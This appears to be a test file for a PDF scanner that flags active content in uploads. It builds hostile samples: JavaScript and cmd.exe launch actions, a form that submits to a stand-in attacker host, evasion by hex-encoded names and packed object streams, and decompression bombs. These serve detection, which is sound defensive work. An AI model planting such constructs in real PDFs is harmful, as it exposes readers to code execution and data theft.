import { deflateSync } from 'node:zlib'
import PDFDocument from 'pdfkit'
import { describe, expect, test } from 'vitest'
import { activePdf } from '../../../src/documents/active-pdf.ts'

const paper = (body: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1'),
    Buffer.from(body),
    Buffer.from('\ntrailer << /Root 1 0 R >>\n%%EOF\n'),
  ])
const catalog = (more: string): string => `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${more} >>\nendobj`
const stream = (dictionary: string, bytes: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`7 0 obj\n<< ${dictionary} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream\nendobj'),
  ])
const objects = (inside: string, dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'): Buffer =>
  paper(stream(dictionary, deflateSync(Buffer.from(`8 0 ${inside}`))))

const script = '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'

const printed = (): Promise<Buffer> =>
  new Promise((resolve) => {
    const doc = new PDFDocument()
    const parts: Buffer[] = []
    doc.on('data', (part: Buffer) => parts.push(part))
    doc.on('end', () => resolve(Buffer.concat(parts)))
    for (let page = 0; page < 20; page += 1) {
      for (let line = 0; line < 60; line += 1) doc.text(`JavaScript and Launch are words like any other ${page} ${line}`)
      doc.addPage()
    }
    doc.end()
  })

describe('what a PDF would do', () => {
  test.each([
    ['a script', script, 'JavaScript'],
    ['a program', '/OpenAction << /S /Launch /F (cmd.exe) >>', 'Launch'],
    ['a file', '/Names << /EmbeddedFiles 3 0 R >>', 'EmbeddedFiles'],
    ['a form that is sent away', '/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>', 'SubmitForm'],
    ['a form with a program of its own', '/AcroForm << /XFA 3 0 R >>', 'XFA'],
    ['a film', '/Annots [ << /Subtype /RichMedia >> ]', 'RichMedia'],
  ])('%s is found', (_, more, active) => {
    expect(activePdf(paper(catalog(more)))).toEqual({ active })
    expect(activePdf(objects(`<< ${more} >>`))).toEqual({ active })
  })

  test.each([
    '/OpenAction<</S/JavaScript/JS(x)>>',
    '/OpenAction << /S /J#61vaScript >>',
    '/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>',
    '/OpenAction << /S%comment\n/JavaScript >>',
    '/OpenAction << /S\0/JavaScript>>',
  ])('is found however it is written: %j', (more) => {
    expect(activePdf(paper(catalog(more)))).toEqual({ active: 'JavaScript' })
    expect(activePdf(objects(`<< ${more} >>`))).toEqual({ active: 'JavaScript' })
  })

  test.each([
    '/Type /ObjStm /N 1 /First 4 /Filter [ /FlateDecode ]',
    '/Type /ObjStm /N 1 /First 4 /Filter[/FlateDecode]',
    // Readers go by these two, whatever the type says.
    '/Type /Metadata /N 1 /First 4 /Filter /FlateDecode',
    // What stands in a text, or in a comment, is no beginning of an object.
    '/Type /ObjStm /N 1 /First 4 /X (1 0 obj) /Filter /FlateDecode',
    '/Type /ObjStm /N 1 /First 4 %1 0 obj\n /Filter /FlateDecode',
    // And what says nothing of it is known by what is in it.
    '/Type /XObject /Filter /FlateDecode',
  ])('is found in packed objects: %s', (dictionary) => {
    expect(activePdf(objects(`<< ${script} >>`, dictionary))).toEqual({ active: 'JavaScript' })
  })

  test('is found behind other packed objects, and where a string tries to hide the beginning of a part', () => {
    const harmless = stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from('8 0 << /A (b) >>')))
    const hidden = stream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', deflateSync(Buffer.from(`9 0 << ${script} >>`)))
    expect(activePdf(paper(Buffer.concat([harmless, Buffer.from('\n'), hidden])))).toEqual({ active: 'JavaScript' })
    expect(activePdf(paper(Buffer.concat([Buffer.from('5 0 obj (stream\n) endobj\n'), hidden])))).toEqual({
      active: 'JavaScript',
    })
  })

  test.each([
    ['packed otherwise', '/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode'],
    ['packed otherwise, with its type by numbers', '/Type/Obj#53tm /Filter /LZWDecode'],
    ['packed otherwise, without its type', '/N 1 /First 4 /Filter /LZWDecode'],
    ['packed otherwise, its entries far apart', `/N 1 /First 4 /X (${'x'.repeat(500)}) /Type /ObjStm /Filter /LZWDecode`],
    ['packed twice', '/Type /ObjStm /N 1 /First 4 /Filter [ /ASCII85Decode /FlateDecode ]'],
  ])('what nobody can look into is not taken for harmless: %s', (_, dictionary) => {
    expect(activePdf(paper(stream(dictionary, Buffer.from('never packed by Flate'))))).toBe('unreadable')
  })

  test('nor what is encrypted, broken, or grows without end', () => {
    const dictionary = '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode'
    // Encrypted bytes are no Flate any more.
    expect(activePdf(paper(stream(dictionary, Buffer.from('this was never packed'))))).toBe('unreadable')
    const filled = (size: number) => deflateSync(Buffer.concat([Buffer.from('8 0 '), Buffer.alloc(size)]))
    const bomb = filled(80 * 1024 * 1024)
    expect(bomb.length).toBeLessThan(100_000)
    expect(activePdf(paper(stream(dictionary, bomb)))).toBe('unreadable')
    const half = filled(40 * 1024 * 1024)
    expect(activePdf(paper(Buffer.concat([stream(dictionary, half), Buffer.from('\n'), stream(dictionary, half)])))).toBe(
      'unreadable',
    )
  })
})

describe('a paper', () => {
  test('as a printer, a scanner or this service makes it does nothing', async () => {
    expect(activePdf(await printed())).toBeNull()
    expect(activePdf(paper(catalog('/OpenAction [ 3 0 R /Fit ] /Lang (zh-CN)')))).toBeNull()
    expect(activePdf(objects('<< /Type /Page /Annots [ << /S /URI /URI (https://www.zhuzhou.gov.cn) >> ] >>'))).toBeNull()
  })

  test('of fifteen megabytes of a scan is looked through in a moment', () => {
    const scan = Buffer.alloc(15 * 1024 * 1024)
    let seed = 1
    for (let at = 0; at < scan.length; at += 1) {
      seed = (seed * 1_103_515_245 + 12_345) & 0x7fffffff
      scan[at] = seed >> 16
    }
    const before = performance.now()
    expect(activePdf(paper(stream('/Subtype /Image /Filter /DCTDecode', scan)))).toBeNull()
    expect(performance.now() - before).toBeLessThan(5000)
  })

  test('that was made to be slow to look through is given up', () => {
    const peek = deflateSync(Buffer.alloc(60_000)).subarray(0, 64)
    for (const filling of ['(', '/A#41', '1 0 obj ', '/First /N ']) {
      const part = Buffer.concat([Buffer.from(filling.repeat(1200).slice(0, 1200)), Buffer.from('\nstream\n'), peek])
      const before = performance.now()
      expect(activePdf(Buffer.concat(Array.from({ length: 9900 }, () => part)))).toBe('unreadable')
      expect([filling, performance.now() - before < 6000]).toEqual([filling, true])
    }
  })
})
